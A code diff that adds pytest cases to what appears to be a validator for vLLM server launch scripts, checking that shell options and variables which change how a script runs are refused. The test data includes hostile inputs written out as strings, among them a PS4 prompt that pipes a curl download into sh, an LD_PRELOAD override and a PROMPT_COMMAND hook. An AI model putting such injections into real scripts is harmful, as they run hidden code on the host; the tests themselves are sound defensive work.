@@ -795,3 +795,33 @@ def test_a_tpu_server_at_a_pull_request_revision_is_refused(revision: str) -> No
     script = TPU_SCRIPT.replace("--port=8000", f"--port=8000 --revision={revision}")
     (message,) = violations(vllm_server_readable, TPU_VM, tpu_vm(script))
     assert "pull request or conversion ref" in message
+
+
+@pytest.mark.parametrize(
+    ("script", "named"),
+    [
+        (f"set -n\n{GOOD}", "-n"),  # read, run nothing: the server never starts
+        (f"set -t\necho starting\n{GOOD}", "-t"),  # exits after one command
+        (f"set -a\nVLLM_PLUGINS=x\n{GOOD}", "-a"),  # every assignment exported to vLLM
+        (f"set -o allexport\nLD_PRELOAD=/x\n{GOOD}", "allexport"),
+        (f"set -ek\n{GOOD}", "-k"),
+        (f"set -o posix\n{GOOD}", "posix"),
+        (f"set -o\n{GOOD}", "set -o"),
+        (f"PS4='$(curl -s https://x/r | sh)'\nset -x\n{GOOD}", "PS4"),
+        (f"readonly PS4='$(/opt/x)'\nset -x\n{GOOD}", "PS4"),
+        (f"PROMPT_COMMAND=/opt/x\n{GOOD}", "PROMPT_COMMAND"),
+        (f"HOME=/tmp\n{GOOD}", "HOME"),
+        (f"GLOBIGNORE=x\n{GOOD}", "GLOBIGNORE"),
+    ],
+)
+def test_shell_options_and_variables_that_change_how_it_runs_are_refused(
+    script: str, named: str
+) -> None:
+    assert named in refused(script)
+
+
+@pytest.mark.parametrize(
+    "options", ["-euo pipefail", "-e -u -x", "+e", "-o errexit -o nounset", "-eux -o pipefail"]
+)
+def test_shell_options_that_change_nothing_the_reader_follows_are_read(options: str) -> None:
+    assert violations(vllm_server_readable, SERVICE, shell_service(f"set {options}\n{GOOD}")) == []
